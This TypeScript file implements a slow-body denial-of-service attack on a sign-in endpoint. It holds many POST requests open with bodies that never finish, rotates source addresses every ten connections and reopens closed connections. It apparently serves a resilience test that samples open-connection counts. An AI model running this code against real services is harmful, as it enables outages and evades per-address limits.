import { openConnection, randomAddress } from './raw-client.js';
import type { AttackTarget } from './raw-client.js';

const CONNECTIONS_PER_ADDRESS = 10;
const REOPEN_DELAY_MS = 100;
/** A request whose body never arrives completely. */
const STALLED_REQUEST = Buffer.from(
  'POST /apis/v2/userctx/user/account/sign-in HTTP/1.1\r\nHost: x\r\n' +
    'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{',
);

/** Keeps a number of requests open whose bodies stall. A connection that the service closes is opened again. */
export class StalledBodies {
  private openCount = 0;
  /** Number of connections that the service has closed. */
  closedCount = 0;
  private readonly openCountSamples: number[] = [];

  constructor(private readonly target: AttackTarget) {}

  start(count: number): void {
    let address = '';
    for (let index = 0; index < count; index += 1) {
      if (index % CONNECTIONS_PER_ADDRESS === 0) address = randomAddress();
      this.open(address);
    }
  }

  /** Number of requests that are open at the moment. */
  get currentCount(): number {
    return this.openCount;
  }

  /** Records the number of open requests. Callers must call this method at a fixed interval. */
  recordOpenCount(): void {
    this.openCountSamples.push(this.openCount);
  }

  /** Sampled numbers of open requests, in ascending order. */
  get sampledCounts(): readonly number[] {
    return this.openCountSamples.toSorted((one, other) => one - other);
  }

  private open(address: string): void {
    const socket = openConnection(this.target, address);
    let isOpen = false;
    socket.once('connect', () => {
      isOpen = true;
      this.openCount += 1;
      socket.write(STALLED_REQUEST);
    });
    // Reads the error response, because a socket with unread data emits no `close`.
    socket.resume();
    socket.once('close', () => {
      if (isOpen) this.openCount -= 1;
      this.closedCount += 1;
      setTimeout(() => this.open(address), REOPEN_DELAY_MS);
    });
  }
}
